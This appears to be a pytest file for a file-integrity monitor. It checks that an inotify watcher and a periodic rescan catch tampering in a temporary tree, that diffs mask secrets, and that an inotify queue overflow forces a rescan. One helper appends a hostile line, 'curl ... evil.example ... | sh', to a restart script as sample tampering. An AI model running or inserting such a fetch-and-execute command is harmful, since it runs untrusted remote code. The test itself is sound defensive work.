"""Each kind of change is found twice over: by the inotify watcher as it happens, and by the full
rescan alone (what catches anything inotify dropped). Real files in a tmp tree, real inotify."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from opsroom.integrity import monitor, service
from opsroom.integrity.snapshot import absolute
from opsroom.runtime import Runtime
from tests.integrity.conftest import Tree, changes, wait_for


def _content(t: Tree) -> Path:
    with t.restart.open("a") as f:
        f.write("curl -s http://evil.example/x | sh\n")
    return t.restart


def _permissions(t: Tree) -> Path:
    t.restart.chmod(0o777)
    return t.restart


def _owner(t: Tree) -> Path:
    os.chown(t.restart, 1, -1)
    return t.restart


def _group(t: Tree) -> Path:
    os.chown(t.restart, -1, 1)
    return t.restart


def _renamed_over(t: Tree) -> Path:
    """The same bytes and mode, but another file moved over it (a new inode)."""
    new = t.scripts / ".restart.sh.tmp"
    new.write_bytes(t.restart.read_bytes())
    new.chmod(0o755)
    os.rename(new, t.restart)
    return t.restart


def _file_to_symlink(t: Tree) -> Path:
    tmp = t.scripts / ".swap"
    tmp.symlink_to(t.scripts / "other.sh")
    os.rename(tmp, t.restart)
    return t.restart


def _symlink_retargeted(t: Tree) -> Path:
    link = t.scripts / "link.sh"
    tmp = t.scripts / ".link.tmp"
    tmp.symlink_to(t.scripts / "other.sh")
    os.rename(tmp, link)
    return link


def _added(t: Tree) -> Path:
    (t.extra / "new.conf").write_text("x = 1\n")
    return t.extra / "new.conf"


def _deleted(t: Tree) -> Path:
    (t.extra / "app.conf").unlink()
    return t.extra / "app.conf"


def _catalog_edit(t: Tree) -> Path:
    f = t.catalog / "catalog.yaml"
    f.write_text(f.read_text().replace("restart.sh", "other.sh"))
    return f


CASES: dict[str, tuple[Callable[[Tree], Path], set[str]]] = {
    "content": (_content, {"content", "size"}),
    "permission-only": (_permissions, {"permissions"}),
    "owner": (_owner, {"owner"}),
    "group": (_group, {"group"}),
    "replaced-by-rename": (_renamed_over, {"inode"}),
    "file-to-symlink": (_file_to_symlink, {"type", "symlink"}),
    "symlink-retargeted": (_symlink_retargeted, {"symlink"}),
    "added": (_added, {"added"}),
    "deleted": (_deleted, {"deleted"}),
    "catalog-edited": (_catalog_edit, {"content"}),
}
EXACT = {"permission-only", "owner", "group", "added", "deleted"}


def _check(name: str, kinds: object) -> None:
    expected = CASES[name][1]
    assert isinstance(kinds, list)
    assert expected <= set(kinds), kinds
    if name in EXACT:
        assert set(kinds) == expected, f"{name}: nothing else changed, yet {kinds}"


@pytest.mark.parametrize("name", list(CASES))
async def test_the_watcher_finds_it(name: str, tree: Tree, rt: Runtime) -> None:
    handle = await monitor.start(rt)
    try:
        assert handle.monitor.watching
        assert changes(rt) == []  # the first start makes the baseline and reports nothing
        path = absolute(CASES[name][0](tree))
        _ev, change = await wait_for(rt, lambda c: c["path"] == path, found_by="watch")
        _check(name, change["kinds"])
    finally:
        await monitor.stop(handle)


@pytest.mark.parametrize("name", list(CASES))
async def test_the_rescan_alone_finds_it(name: str, tree: Tree, rt: Runtime) -> None:
    first = await service.scan_now(rt, found_by="start")
    assert first.created and first.new_changes == 0
    path = absolute(CASES[name][0](tree))
    result = await service.scan_now(rt, found_by="scan")
    assert result.new_changes >= 1
    (ev,) = changes(rt)
    (change,) = [c for c in ev.changes if c["path"] == path]
    _check(name, change["kinds"])
    # Recorded once: the next rescan of the same state says nothing new.
    assert (await service.scan_now(rt, found_by="scan")).new_changes == 0


async def test_a_content_change_comes_with_a_masked_diff(tree: Tree, rt: Runtime) -> None:
    from opsroom.secrets import masking

    masking.register("s3cr3t-integrity-canary")
    await service.scan_now(rt, found_by="start")
    conf = tree.extra / "app.conf"
    conf.write_text("listen 8443\npassword s3cr3t-integrity-canary\n")
    await service.scan_now(rt, found_by="scan")
    (ev,) = changes(rt)
    (change,) = ev.changes
    text = change["diff"]
    assert isinstance(text, str)
    assert "-listen 8080" in text and "+listen 8443" in text
    assert "s3cr3t-integrity-canary" not in text and "+password ****" in text


async def test_an_overflow_of_the_inotify_queue_triggers_a_full_rescan(tree: Tree, rt: Runtime) -> None:
    """inotify's queue overflowed (watchdog's EventsLostEvent): whatever it dropped is found by a
    rescan at once, not at the next scheduled one an hour later."""
    from watchdog.events import EventsLostEvent

    handle = await monitor.start(rt)
    try:
        handle.monitor.unwatch()  # nothing heard from here on: only the rescan can find it
        tree.restart.chmod(0o700)
        handle.monitor.dispatch(EventsLostEvent(str(tree.scripts)))
        ev, change = await wait_for(rt, lambda c: c["path"] == absolute(tree.restart))
        assert ev.found_by == "overflow" and change["kinds"] == ["permissions"]
        assert handle.monitor.overflows == 1
    finally:
        await monitor.stop(handle)
